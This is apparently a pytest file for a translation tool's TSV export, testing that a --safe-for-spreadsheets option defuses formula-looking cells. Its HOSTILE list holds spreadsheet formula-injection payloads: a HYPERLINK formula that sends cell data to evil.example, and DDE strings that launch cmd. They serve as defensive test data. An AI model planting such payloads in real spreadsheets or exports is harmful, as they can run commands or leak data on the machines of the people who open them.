"""Aligned TSV and spreadsheets: the default keeps the exact text (a formula-looking
cell stays as it is); --safe-for-spreadsheets defuses such cells with a leading `'`."""

from __future__ import annotations

import csv
import io

import pytest
from helpers_export import translate

from transdesk.formats.aligned import spreadsheet_text

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
           "+cmd|' /C notepad'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "- Да, — сказал он."]


@pytest.fixture
def hostile(run, samples):
    assert run("import", str(samples / "ru-budget.txt")).exit_code == 0
    texts = iter(HOSTILE)
    translate(run.db_path, "ru-budget", "uk", text=lambda key, src: next(texts, f"[uk] {src}"))
    return run.json("units", "ru-budget")


def rows(data: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data), delimiter="\t"))


def test_the_default_keeps_the_exact_text(run, hostile):
    result = run("export", "ru-budget", "--lang", "uk", "--format", "aligned")
    assert result.exit_code == 0, result.output
    table = rows(result.stdout)
    assert [row[2] for row in table[1:len(HOSTILE) + 1]] == HOSTILE
    assert [row[1] for row in table[1:]] == [u["source"] for u in hostile]


def test_safe_for_spreadsheets_prefixes_formula_cells(run, hostile):
    result = run("export", "ru-budget", "--lang", "uk", "--format", "aligned",
                 "--safe-for-spreadsheets")
    assert result.exit_code == 0, result.output
    table = rows(result.stdout)
    assert table[0] == ["key", "source", "target", "status"]
    targets = [row[2] for row in table[1:]]
    assert targets[:len(HOSTILE)] == ["'" + text for text in HOSTILE]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
               for row in table for cell in row)
    # the rest is untouched: sources, keys, statuses, ordinary translations
    assert [row[1] for row in table[1:]] == [u["source"] for u in hostile]
    assert targets[len(HOSTILE):] == [f"[uk] {u['source']}" for u in hostile[len(HOSTILE):]]


@pytest.mark.english
def test_the_flag_belongs_to_the_aligned_format(run, hostile):
    for fmt in ("article", "tmx", "json", "html"):
        result = run("export", "ru-budget", "--lang", "uk", "--format", fmt,
                     "--safe-for-spreadsheets", "--allow-incomplete")
        assert result.exit_code == 2
        assert result.stderr == (f"Error: --safe-for-spreadsheets applies to --format aligned,"
                                 f" not {fmt}\n")


@pytest.mark.parametrize(("text", "safe"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"),
    ("\r=1", "'\r=1"), ("", ""), ("a=1", "a=1"), ("'=1", "'=1"), (" =1", " =1"),
    ("－1", "－1"),  # a fullwidth minus is text to every spreadsheet
])
def test_spreadsheet_text(text, safe):
    assert spreadsheet_text(text) == safe
